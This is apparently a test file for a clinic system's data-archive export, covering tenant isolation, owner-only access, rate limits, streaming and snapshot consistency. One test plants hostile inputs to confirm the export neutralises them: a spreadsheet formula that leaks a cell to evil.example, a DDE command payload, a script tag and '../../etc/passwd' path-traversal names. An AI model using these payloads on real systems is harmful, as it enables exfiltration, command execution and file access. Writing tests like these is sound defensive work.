import assert from "node:assert/strict";
import * as z from "zod/mini";
import { createApi } from "../../edge/app.ts";
import { writeArchive } from "../../edge/archives/establishment_archive.ts";
import { zipStream } from "../../edge/archives/zip.ts";
import { Caller } from "../../edge/data/caller.ts";
import { openDatabase } from "../../edge/data/database.ts";
import { Archive } from "../../edge/domain/archive.ts";
import { ProblemDocument } from "../../edge/openapi/problem_document.ts";
import { PT_BR } from "../../edge/texts/pt_BR.ts";
import { type Clinic, clinic, visits } from "../support/builders.ts";
import { type Login, signUp } from "../support/logins.ts";
import { testStack } from "../support/stack.ts";
import { fullClinic } from "../support/tenant_rows.ts";
import { unzip } from "../support/zip_files.ts";

const stack = await testStack();
const { sql } = stack;
Deno.test.afterAll(async () => await stack.stop());

const MB = 1e6;
const PNG = new Uint8Array([137, 80, 78, 71, 13, 10, 26, 10]);
const Manifest = z.object({
  tables: z.array(z.object({ name: z.string(), rows: z.int() })),
  files: z.array(z.string()),
  missing: z.array(z.string()),
});

async function own(house: Clinic): Promise<Clinic & { owner: Login }> {
  const owner = await signUp(stack);
  await sql`insert into public.members (establishment_id, user_id, role) values (${house.id}, ${owner.id}, 'owner')`;
  return { ...house, owner };
}

async function begin({ id, owner }: { id: string; owner: Login }): Promise<Archive> {
  return Archive.parse(await (await owner.ask("POST", `/establishments/${id}/archives`)).json());
}

const at = (house: { id: string }, archive: Archive) => `/establishments/${house.id}/archives/${archive.id}`;
const read = async (house: Clinic & { owner: Login }, archive: Archive) =>
  Archive.parse(await (await house.owner.ask("GET", at(house, archive))).json());

/** A clinic with 5,000 visits, made once. */
let busy: ReturnType<typeof busyClinic> | undefined;
async function busyClinic() {
  const house = await own(await clinic(sql));
  // A history is no news and needs no log of its own.
  await sql`alter table public.visits disable trigger user`;
  // But each visit has its place in the order.
  await sql`alter table public.visits enable trigger rank_visit`;
  for (let made = 0; made < 5; made++) {
    await visits(sql, house, Array.from({ length: 1000 }, () => ({ status: "finished" as const })));
  }
  await sql`alter table public.visits enable trigger user`;
  return house;
}

/** Reads again until the state is there; it is noted once the last byte was taken. */
async function stateOf(house: Clinic & { owner: Login }, archive: Archive, wanted: Archive["state"]) {
  for (let tries = 0; tries < 50; tries++) {
    const now = await read(house, archive);
    if (now.state === wanted) return now;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  return await read(house, archive);
}

Deno.test("An archive holds every row twice, every file once, and nothing of another clinic", async () => {
  const [house, other] = [await own(await fullClinic(sql, [{}, {}])), await fullClinic(sql)];
  await house.owner.supabase.storage.from("logos")
    .upload(`${house.id}/brand.png`, PNG, { contentType: "image/png" });
  const archive = await begin(house);
  assert.equal(archive.state, "begun");
  const answer = await house.owner.ask("GET", `${at(house, archive)}/file`, undefined, {
    "accept-language": "en",
  });
  assert.equal(answer.headers.get("content-type"), "application/zip");
  const files = await unzip(answer);
  const whole = [...files.values()].join("\n");
  for (const foreign of [other.id, ...Object.values(other.members)]) assert.ok(!whole.includes(foreign));

  const manifest = Manifest.parse(JSON.parse(files.get("manifest.json") ?? ""));
  assert.equal([...files.keys()].at(-1), "manifest.json");
  for (const { name, rows } of manifest.tables) {
    const json = z.array(z.looseObject({})).parse(JSON.parse(files.get(`json/${name}.json`) ?? ""));
    const [{ n }] = await sql.unsafe(
      `select count(*)::int as n from public.${name} where establishment_id = $1`,
      [house.id],
    );
    assert.deepEqual([json.length, rows], [n, n], name);
    const csv = files.get(`csv/${name}.csv`) ?? "";
    assert.equal(csv.split("\r\n").length - 2, n, name);
    assert.ok(csv.startsWith("\ufeff"), name);
    assert.ok(!/"(token|token_hash|search_text)"/.test(csv.split("\r\n")[0]), name);
  }
  assert.match(files.get("README.txt") ?? "", /Archive of Clínica Aurora/);
  const { people } = JSON.parse(files.get("establishment.json") ?? "");
  assert.equal(people.length, 6);
  assert.deepEqual(manifest.files, ["files/logos/brand.png"]);
  // Its row has no bytes behind it: one lost file must not keep a clinic from its archive.
  assert.deepEqual(manifest.missing, ["files/logos/logo.png"]);
  assert.equal(files.has("files/logos/brand.png"), true);
  const { done, total } = await stateOf(house, archive, "finished");
  assert.equal(done, total);
});

Deno.test("An archive carries names as they are, and none of them acts: no formula, no path, no markup", async () => {
  const house = await own(await clinic(sql));
  const attacks = [
    `=HYPERLINK("http://evil.example?"&A1;"x")`,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    `<script>alert("1")</script>`,
    `a"b,c;d`,
  ];
  for (const name of attacks) {
    await sql`insert into public.patients (establishment_id, name) values (${house.id}, ${name})`;
  }
  const symptoms = ["\t=1+1", "\r\n@x", ...attacks];
  const made = await visits(sql, house, symptoms.map((symptoms) => ({ symptoms })));
  await sql`delete from storage.objects`;
  const paths = [
    "../../etc/passwd",
    "patients/a:b|c?.png",
    "CON.png",
    "patients/A:b|c?.png",
    "..",
    "x/../y.png",
  ];
  for (const name of paths) {
    const { error } = await stack.sql`
      insert into storage.objects (bucket_id, name) values ('logos', ${`${house.id}/${name}`})`
      .then(() => ({ error: null }), (error) => ({ error }));
    assert.equal(error, null);
  }
  const files = await unzip(await house.owner.ask("GET", `${at(house, await begin(house))}/file`));
  for (const table of ["patients", "visits", "audit_log"]) {
    const cells = (files.get(`csv/${table}.csv`) ?? "").match(/"(?:[^"]|"")*"/g) ?? [];
    assert.ok(cells.length > attacks.length);
    for (const cell of cells) assert.doesNotMatch(cell, /^"\s*[=+\-@\t\r]/, cell);
  }
  const json = z.array(z.looseObject({ id: z.string(), symptoms: z.nullable(z.string()) }))
    .parse(JSON.parse(files.get("json/visits.json") ?? ""));
  const kept = new Map(json.map((row) => [row.id, row.symptoms]));
  assert.deepEqual(made.map(({ id }) => kept.get(id)), symptoms);
  const { missing } = Manifest.parse(JSON.parse(files.get("manifest.json") ?? ""));
  assert.deepEqual(missing.sort(), [
    "files/logos",
    "files/logos/_CON.png",
    "files/logos/etc/passwd",
    "files/logos/patients/A_b_c_ (2).png",
    "files/logos/patients/a_b_c_.png",
    "files/logos/x/y.png",
  ]);
});

Deno.test("An archive is for owners, and each only of one's own clinic", async () => {
  const [house, other] = [await own(await clinic(sql)), await own(await clinic(sql))];
  const admin = await signUp(stack);
  await sql`insert into public.members (establishment_id, user_id, role) values (${house.id}, ${admin.id}, 'admin')`;
  const archive = await begin(house);
  for (const [who, code] of [[admin, "role_not_allowed"], [other.owner, "not_found"]] as const) {
    for (const [method, path] of [["GET", ""], ["GET", "/file"]]) {
      const answer = await who.ask(method, at(house, archive) + path);
      assert.equal(ProblemDocument.parse(await answer.json()).code, code);
    }
    for (const [method, path] of [["GET", "archive"], ["POST", "archives"]]) {
      const answer = await who.ask(method, `/establishments/${house.id}/${path}`);
      assert.equal(ProblemDocument.parse(await answer.json()).code, code);
    }
  }
  const crossed = await other.owner.ask("GET", `/establishments/${other.id}/archives/${archive.id}/file`);
  assert.equal(crossed.status, 404);
  await crossed.body?.cancel();
  const [{ n }] = await sql`
    select count(*)::int as n from public.audit_log
    where establishment_id = ${house.id} and action = 'read' and table_name = 'archive'`;
  assert.equal(n, 1, "the reading is logged once");
});

Deno.test("A clinic takes six archives an hour", async () => {
  const house = await own(await clinic(sql));
  for (let i = 0; i < 6; i++) await begin(house);
  const answer = await house.owner.ask("POST", `/establishments/${house.id}/archives`);
  assert.equal(ProblemDocument.parse(await answer.json()).code, "too_many_requests");
});

Deno.test("The archive of 5,000 visits: a slow reader holds the producer back, within a few megabytes", async () => {
  const house = await (busy ??= busyClinic());
  const database = openDatabase(stack.databaseUrl, { poolSize: 1 });
  const claims = { sub: house.members.owner, role: "authenticated" };
  /** Bytes that were read of the database. */
  let produced = 0;
  const stream = () => {
    produced = 0;
    return zipStream((zip, signal) =>
      database.snapshot("authenticated", claims, async (statements) => {
        const reader = new Caller(
          {
            async transact(...asked) {
              const rows = await statements.transact(...asked);
              produced += JSON.stringify(rows).length;
              return rows;
            },
          },
          "authenticated",
          claims,
        );
        const files = { read: () => Promise.resolve(null), remove: () => Promise.resolve() };
        await writeArchive(
          zip,
          { reader, establishment: house.id, files, texts: PT_BR, progress() {} },
          signal,
        );
      })
    );
  };
  let size = 0;
  for await (const chunk of stream()) size += chunk.byteLength;
  const all = produced;
  assert.ok(all > 10 * MB, `${all}`);

  const reader = stream().getReader();
  let taken = 0;
  let looks = 0;
  let worst = 0;
  for (let read = await reader.read(); !read.done; read = await reader.read()) {
    taken += read.value.byteLength;
    // Ten times, the first time at once.
    if (taken < looks * size / 10) continue;
    looks++;
    // The reader waits for as long as the producer finds something to do.
    for (let before = -1; before !== produced;) {
      before = produced;
      await new Promise((resolve) => setTimeout(resolve, 300));
    }
    // Beyond what the reader has, as far as the compression is even.
    worst = Math.max(worst, produced - all * taken / size);
  }
  assert.equal(produced, all);
  assert.ok(worst < 5 * MB, `${worst} bytes ahead of the reader, of ${all}`);
  await database.close();
});

Deno.test("A reader who goes away ends the reading: no transaction stays open, and the page hears of it", async () => {
  const house = await (busy ??= busyClinic());
  const archive = await begin(house);
  const { app, close } = createApi({
    databaseUrl: stack.databaseUrl,
    supabaseUrl: stack.url,
    jwtSecret: stack.keys.jwt_secret,
    log: () => {},
  });
  const headers = { authorization: `Bearer ${house.owner.token}` };
  const download = () => app.request(`/functions/v1/api${at(house, archive)}/file`, { headers });
  const reader = (await download()).body?.getReader();
  await reader?.read();
  await reader?.cancel();
  const { state, done, total } = await stateOf(house, archive, "broken");
  assert.deepEqual([state, done < total], ["broken", true]);
  const open = await sql`
    select from pg_stat_activity where datname = current_database() and state like 'idle in transaction%'`;
  assert.equal(open.length, 0);
  // The same archive can be asked for again, and is whole then.
  assert.ok((await unzip(await download())).has("manifest.json"));
  await close();
});

Deno.test("What is written while an archive is read is not in it: all files are of one moment", async () => {
  const house = await clinic(sql);
  await visits(sql, house, [{}, {}]);
  const database = openDatabase(stack.databaseUrl, { poolSize: 1 });
  const claims = { sub: house.members.owner, role: "authenticated" };
  const seen = await database.snapshot("authenticated", claims, async (statements) => {
    const count = async () =>
      (await statements.transact(
        "authenticated",
        claims,
        (sql) => sql`select count(*)::int as n from public.visits where establishment_id = ${house.id}`,
      ))[0].n;
    const before = await count();
    await visits(sql, house, [{}]);
    return [before, await count()];
  });
  assert.deepEqual(seen, [2, 2]);
  await database.close();
});
